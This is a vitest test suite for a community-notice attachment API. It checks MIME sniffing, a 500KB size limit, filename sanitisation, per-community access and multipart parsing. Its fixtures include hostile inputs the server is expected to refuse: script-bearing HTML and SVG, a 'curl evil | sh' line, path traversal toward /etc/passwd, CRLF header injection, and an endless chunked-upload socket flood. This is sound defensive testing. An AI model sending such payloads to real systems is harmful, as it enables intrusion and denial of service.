import net from 'node:net'
import { todayIn } from '@aangan/contract/core/dates'
import { noticeEndpoints } from '@aangan/contract/society/notices'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { world, type Answer, type Speaker, type World } from '../../../test/world.ts'

const { create, update, remove } = noticeEndpoints
const bytes = (text: string): Buffer<ArrayBuffer> => Buffer.from(text, 'latin1')
const pdf = bytes('%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF')
const png = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  'base64',
)
const jpeg = bytes('\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0\xff\xd9')

describe('attachments of notices', () => {
  let w: World
  beforeAll(async () => {
    w = await world()
  })
  afterAll(() => w.close())

  const form = (over: object = {}) => ({
    title: 'Plan',
    content: 'See the plan.',
    endDate: todayIn('Asia/Kolkata', w.now()),
    ...over,
  })
  const post = (
    content: Uint8Array<ArrayBuffer> | undefined,
    fileName = 'plan.pdf',
    { who = w.admin, type = '', over = {} }: { who?: Speaker; type?: string; over?: object } = {},
  ) => who.call(create, { body: form(over), file: content && new File([content], fileName, { type }) } as never)
  const pathOf = (answer: Answer) => String(answer.body['attachmentPath'])
  const fetched = async (path: string, who: Speaker = w.resident) => {
    const response = await fetch(w.address + path, { headers: { authorization: `Bearer ${who.token}` } })
    return { status: response.status, bytes: Buffer.from(await response.arrayBuffer()), headers: response.headers }
  }
  const count = async (id: unknown) =>
    (await w.sql`select 1 from data.notice_attachments where notice_id = ${String(id)}`).length

  // spec: 7.calls.25, screens.notices.1
  it.each([
    ['plan.pdf', 'application/pdf', pdf],
    ['photo.jpg', 'image/jpeg', jpeg],
    ['photo.jpeg', 'image/jpeg', jpeg],
    ['scan.png', 'image/png', png],
  ])('%s is kept and comes back byte for byte, as %s', async (fileName, type, content) => {
    const made = await post(content, fileName, { type })
    expect(made).toMatchObject({
      status: 201,
      body: {
        attachmentType: type,
        attachmentSize: content.length,
        attachmentPath: `/api/notices/attachments/${String(made.body['id'])}_${fileName}`,
      },
    })
    const got = await fetched(pathOf(made))
    expect(got.status).toBe(200)
    expect(got.bytes.equals(content)).toBe(true)
    expect(
      Object.fromEntries(
        ['content-type', 'content-disposition', 'x-content-type-options', 'cache-control'].map((name) => [
          name,
          got.headers.get(name),
        ]),
      ),
    ).toEqual({
      'content-type': type,
      'content-disposition': `attachment; filename="${fileName}"; filename*=UTF-8''${fileName}`,
      'x-content-type-options': 'nosniff',
      'cache-control': 'no-store',
    })
    expect(got.headers.get('content-security-policy')).toContain('sandbox')
  })

  it('a PNG declared as a PDF is a PNG', async () => {
    const made = await post(png, 'scan.pdf', { type: 'application/pdf' })
    expect(made).toMatchObject({ status: 201, body: { attachmentType: 'image/png' } })
    expect((await fetched(pathOf(made))).headers.get('content-type')).toBe('image/png')
  })

  // spec: 5.notice.4
  it.each([
    ['HTML', bytes('<!doctype html><script>alert(1)</script>')],
    ['SVG', bytes('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')],
    ['a script', bytes('#!/bin/sh\ncurl evil | sh')],
    ['GIF', bytes('GIF89a\x01\0\x01\0')],
    ['a PDF behind a page', bytes('<html>%PDF-1.7')],
    ['a page behind the mark of a PNG', Buffer.concat([png, bytes('<script>alert(1)</script>')])],
    ['nothing at all', bytes('')],
  ])('%s is refused, whatever name and type it claims', async (_, content) => {
    for (const [fileName, type] of [
      ['plan.pdf', 'application/pdf'],
      ['scan.png', 'image/png'],
      ['photo.jpg', 'image/jpeg'],
    ] as const) {
      expect(await post(content, fileName, { type, over: { title: 'Refused' } })).toMatchObject({
        status: 415,
        body: { message: 'Only PDF, JPEG, or PNG files are allowed.' },
      })
    }
    expect(await w.sql`select 1 from data.notices where title = 'Refused'`).toHaveLength(0)
  })

  // spec: 5.notice.5, 9.constants.3
  it('512,000 bytes are the most', async () => {
    const most = await post(Buffer.concat([pdf], 512_000), 'most.pdf')
    expect(most.status).toBe(201)
    expect((await fetched(pathOf(most))).bytes.length).toBe(512_000)
    for (const size of [512_001, 5_000_000]) {
      expect(await post(Buffer.concat([pdf], size), 'more.pdf')).toMatchObject({
        status: 413,
        body: { message: 'File size exceeds 500KB limit.' },
      })
    }
    const params = { id: String(most.body['id']) }
    expect(
      (await w.admin.call(update, { params, body: form(), file: new File([Buffer.alloc(512_001)], 'file') } as never))
        .status,
    ).toBe(413)
    expect((await fetched(pathOf(most))).status).toBe(200)
  })

  it.each([
    ['../../etc/passwd.pdf', 'passwd.pdf'],
    ['C:\\secret\\plan.pdf', 'plan.pdf'],
    ['a"b\'c.pdf', 'abc.pdf'],
    ['a\r\nX-Evil: 1.pdf', 'aX-Evil 1.pdf'],
    ['सूचना पत्र २०२६.pdf', 'सूचना पत्र २०२६.pdf'],
    ['naïve plan & 100%#1+2.pdf', 'naïve plan & 100%#1+2.pdf'],
    ['water_supply_plan.pdf', 'water_supply_plan.pdf'],
    [`${'x'.repeat(300)}.pdf`, `${'x'.repeat(96)}.pdf`],
    [`${'सू'.repeat(150)}.pdf`, `${'सू'.repeat(48)}.pdf`],
    [`${'🎉'.repeat(80)}.pdf`, `${'🎉'.repeat(48)}.pdf`],
    ['page.html', 'page.html.pdf'],
    ['plan', 'plan.pdf'],
  ])('a file called %j is kept and found as %j', async (given, kept) => {
    const made = await post(pdf, given)
    expect(pathOf(made)).toBe(`/api/notices/attachments/${encodeURIComponent(`${String(made.body['id'])}_${kept}`)}`)
    const got = await fetched(pathOf(made))
    expect(got.status).toBe(200)
    expect(got.headers.get('content-disposition')).toContain(`filename*=UTF-8''${encodeURIComponent(kept)}`)
  })

  it('is for the community, and as long as the notice is', async () => {
    const made = await post(pdf)
    const path = pathOf(made)
    for (const who of [w.resident, w.guard, w.admin, w.superAdmin]) expect((await fetched(path, who)).status).toBe(200)
    for (const who of [w.stranger, w.strangerGuard, w.strangerAdmin])
      expect((await fetched(path, who)).status).toBe(404)
    expect((await fetch(w.address + path)).status).toBe(401)
    await w.sql`update data.notices set end_date = '2020-01-01' where id = ${String(made.body['id'])}`
    for (const who of [w.resident, w.guard]) expect((await fetched(path, who)).status).toBe(404)
    for (const who of [w.admin, w.superAdmin]) expect((await fetched(path, who)).status).toBe(200)
    await w.admin.call(remove, { params: { id: String(made.body['id']) } })
    expect((await fetched(path, w.admin)).status).toBe(404)
    expect(await count(made.body['id'])).toBe(0)
  })

  it('only its whole name finds it; nonsense is the request’s fault', async () => {
    const id = String((await post(pdf)).body['id'])
    const at = async (rest: string) => (await fetched(`/api/notices/attachments/${rest}`)).status
    expect(await at(`${id}_plan.pdf`)).toBe(200)
    expect(await at(`${id.toUpperCase()}_plan.pdf`)).toBe(200)
    expect(await at(`${id}_other.pdf`)).toBe(404)
    expect(await at(`${id}_plan.pd`)).toBe(404)
    expect(await at('00000000-0000-7000-8000-000000000000_plan.pdf')).toBe(404)
    for (const rest of [
      id,
      `${id}_`,
      `${id}_%00.pdf`,
      `${id}_${'x'.repeat(300)}`,
      'plan.pdf',
      '%2e%2e%2fetc%2fpasswd',
      `${id}_%E0%A4`,
    ])
      expect([rest, await at(rest)]).toEqual([rest, 400])
    expect(await at(`${id}_${'x'.repeat(2000)}`)).toBeGreaterThanOrEqual(400)
  })

  // spec: 7.calls.23
  it('an edit without a file keeps it, another file takes its place, removeAttachment drops it', async () => {
    const made = await post(pdf)
    const params = { id: String(made.body['id']) }
    const edit = (over: object, content?: Uint8Array<ArrayBuffer>, fileName = 'file') =>
      w.admin.call(update, { params, body: form(over), file: content && new File([content], fileName) } as never)
    expect(await edit({ title: 'New title' })).toMatchObject({
      status: 200,
      body: { title: 'New title', attachmentPath: pathOf(made), attachmentType: 'application/pdf' },
    })
    expect((await edit({ removeAttachment: false })).body).toMatchObject({ attachmentPath: pathOf(made) })
    const replaced = await edit({}, png, 'scan.png')
    expect(replaced).toMatchObject({
      status: 200,
      body: { attachmentType: 'image/png', attachmentPath: `/api/notices/attachments/${params.id}_scan.png` },
    })
    expect((await fetched(pathOf(made))).status).toBe(404)
    expect((await fetched(pathOf(replaced))).bytes.equals(png)).toBe(true)
    expect((await edit({}, bytes('<html>'), 'scan.png')).status).toBe(415)
    expect((await fetched(pathOf(replaced))).status).toBe(200)
    expect((await edit({ removeAttachment: true }, jpeg, 'photo.jpg')).body).toMatchObject({
      attachmentType: 'image/jpeg',
    })
    expect((await edit({ removeAttachment: true })).body).toMatchObject({ attachmentPath: null, attachmentType: null })
    expect(await count(params.id)).toBe(0)
    expect((await edit({ removeAttachment: true })).status).toBe(200)
    const rows = await w.sql`select action, new_data from data.audit_logs where resource_id = ${params.id} order by id`
    expect(rows.map((row) => [row['action'], JSON.parse(row['new_data']).attachmentType])).toEqual([
      ['CREATE', 'application/pdf'],
      ['UPDATE', 'application/pdf'],
      ['UPDATE', 'application/pdf'],
      ['UPDATE', 'image/png'],
      ['UPDATE', 'image/jpeg'],
      ['UPDATE', null],
      ['UPDATE', null],
    ])
  })

  it('a super admin attaches for a community, and it is that community’s', async () => {
    const made = await post(pdf, 'plan.pdf', { who: w.superAdmin, over: { communityId: w.there.id } })
    expect((await fetched(pathOf(made), w.stranger)).status).toBe(200)
    expect((await fetched(pathOf(made), w.admin)).status).toBe(404)
    const params = { id: String(made.body['id']) }
    expect(
      await w.superAdmin.call(update, { params, body: form(), file: new File([png], 'scan.png') } as never),
    ).toMatchObject({ status: 200, body: { attachmentType: 'image/png' } })
    expect(await w.superAdmin.call(update, { params, body: form({ removeAttachment: true }) } as never)).toMatchObject({
      status: 200,
      body: { attachmentPath: null },
    })
  })

  // spec: 7.calls.22
  it('the notice may be a plain field as well as a JSON blob, and an empty file input is no file', async () => {
    const part = (header: string, content: string) =>
      `--x\r\ncontent-disposition: form-data; ${header}\r\n\r\n${content}\r\n`
    const body = `${part('name="notice"', JSON.stringify(form()))}${part('name="file"; filename=""', '')}--x--\r\n`
    expect(
      await w.admin.send('POST', create.path, { body, headers: { 'content-type': 'multipart/form-data; boundary=x' } }),
    ).toMatchObject({ status: 201, body: { attachmentPath: null } })
  })

  // spec: safety.what-is-sent.5
  it('the plain field may say that it is JSON', async () => {
    const send = (content: string) =>
      w.admin.send('POST', create.path, {
        body: `--x\r\ncontent-disposition: form-data; name="notice"\r\ncontent-type: application/json\r\n\r\n${content}\r\n--x--\r\n`,
        headers: { 'content-type': 'multipart/form-data; boundary=x' },
      })
    expect(await send(JSON.stringify(form({ title: 'As JSON' })))).toMatchObject({
      status: 201,
      body: { title: 'As JSON' },
    })
    for (const wrong of ['{', '[]', 'null', '"text"', '1'])
      expect([wrong, (await send(wrong)).status]).toEqual([wrong, 400])
  })

  // spec: safety.what-is-sent.1
  it('the headers of a part are bounded, and so is the name in them', async () => {
    const upload = (name: string) =>
      w.admin.send('POST', create.path, {
        body: `--x\r\ncontent-disposition: form-data; name="notice"\r\n\r\n${JSON.stringify(form())}\r\n--x\r\ncontent-disposition: form-data; name="file"; filename="${name}"\r\n\r\n%PDF-1.4\n\r\n--x--\r\n`,
        headers: { 'content-type': 'multipart/form-data; boundary=x' },
      })
    expect(await upload(`${'.'.repeat(3000)}plan.pdf`)).toMatchObject({ status: 201 })
    const long = await upload(`${'.'.repeat(70_000)}plan.pdf`)
    expect(long.status).toBeLessThan(500)
  })

  it('what is no such form is refused', async () => {
    const send = (fill: (body: FormData) => void) => {
      const body = new FormData()
      fill(body)
      return w.admin.send('POST', create.path, { body })
    }
    expect((await send((body) => body.append('file', new Blob([pdf]), 'plan.pdf'))).status).toBe(400)
    expect((await send((body) => body.append('notice', '{'))).status).toBe(400)
    expect((await send((body) => body.append('notice', '[]'))).status).toBe(400)
    expect((await send((body) => body.append('notice', 'null'))).status).toBe(400)
    const json = { body: JSON.stringify(form()), headers: { 'content-type': 'application/json' } }
    expect(await w.admin.send('POST', create.path, json)).toMatchObject({
      status: 415,
      body: { message: 'Unsupported media type. Please ensure the request is properly formatted.' },
    })
    const torn = {
      body: '--x\r\ncontent-disposition: form-data; name="notice"\r\n\r\n{',
      headers: { 'content-type': 'multipart/form-data; boundary=x' },
    }
    expect((await w.admin.send('POST', create.path, torn)).status).toBe(400)
    expect(
      (await w.admin.send('POST', create.path, { body: 'x', headers: { 'content-type': 'multipart/form-data' } }))
        .status,
    ).toBeGreaterThanOrEqual(400)
    const many = await send((body) => {
      for (let n = 0; n < 20; n++) body.append(`field${n}`, 'x')
      body.append('notice', JSON.stringify(form()))
    })
    expect([400, 413]).toContain(many.status)
  })

  it.each([
    ['file', 'admin', 413, 'File size exceeds 500KB limit.'],
    ['notice', 'admin', 413, 'File size exceeds 500KB limit.'],
    ['file', 'resident', 403, 'Unauthorized access'],
    ['file', 'guest', 401, ''],
  ] as const)(
    'an endless part "%s" from a person like %s is answered with %i, and the line is cut',
    async (part, who, status, words) => {
      const { hostname, port } = new URL(w.address)
      const socket = net.connect(Number(port), hostname)
      let answer = ''
      socket.on('data', (chunk) => (answer += chunk.toString()))
      socket.on('error', () => {})
      socket.write(
        `POST ${create.path} HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${w[who].token}\r\ncontent-type: multipart/form-data; boundary=x\r\ntransfer-encoding: chunked\r\n\r\n`,
      )
      const chunk = (content: string) => `${content.length.toString(16)}\r\n${content}\r\n`
      socket.write(chunk(`--x\r\ncontent-disposition: form-data; name="${part}"; filename="a.pdf"\r\n\r\n%PDF-1.7\n`))
      let sent = 0
      const more = () => {
        while (!socket.destroyed && sent < 200_000_000 && socket.write(chunk('x'.repeat(60_000)))) sent += 60_000
      }
      socket.on('drain', more)
      more()
      await new Promise((resolve) => socket.once('close', resolve))
      expect(answer).toMatch(new RegExp(`^HTTP/1.1 ${status} `))
      expect(answer).toContain(words)
      expect(sent).toBeLessThan(200_000_000)
    },
  )
})
